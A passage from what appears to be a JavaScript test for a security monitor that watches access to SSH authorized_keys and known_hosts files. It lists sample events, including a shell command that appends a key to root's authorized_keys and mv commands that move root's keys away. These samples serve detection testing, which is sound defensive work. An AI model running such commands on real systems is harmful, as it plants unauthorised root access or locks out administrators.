      ['sshd reading it', access('/usr/sbin/sshd', ['sshd: ops [priv]'], keys('ACCESS_READ', '/home/ops/.ssh/authorized_keys'))],
      ['the Google guest agent', access('/usr/bin/google_guest_agent', ['/usr/bin/google_guest_agent'], keys('ACCESS_TRUNCATE', '/home/ops/.ssh/authorized_keys'))],
      ['cloud-init, a Python program', access('/usr/bin/python3', ['/usr/bin/python3', '/usr/bin/cloud-init', 'modules'], keys('ACCESS_WRITE', '/home/debian/.ssh/authorized_keys'))],
      ['the keys moved away (coreutils 9, into a directory)', access('/bin/mv', ['mv', '/root/.ssh/authorized_keys', '/tmp/'], { ...keys('ACCESS_DELETE'), call: 'CALL_RENAMEAT2', other_name: 'authorized_keys', dirfd: 3 })],
      ['the keys moved to a backup beside them', access('/bin/mv', ['mv', '/root/.ssh/authorized_keys', '/root/.ssh/authorized_keys.old'], { ...keys('ACCESS_DELETE'), call: 'CALL_RENAME', other_name: '/root/.ssh/authorized_keys.old' })],
      ['ssh learning a host key', access('/usr/bin/ssh', ['ssh', 'git@example.com'], keys('ACCESS_WRITE', '/root/.ssh/known_hosts'))],
      ['a write that failed', access('/bin/sh', ['sh', '-c', 'echo k >> /root/.ssh/authorized_keys'], { ...keys('ACCESS_WRITE'), result: -13 })],
    ]);
  });
});
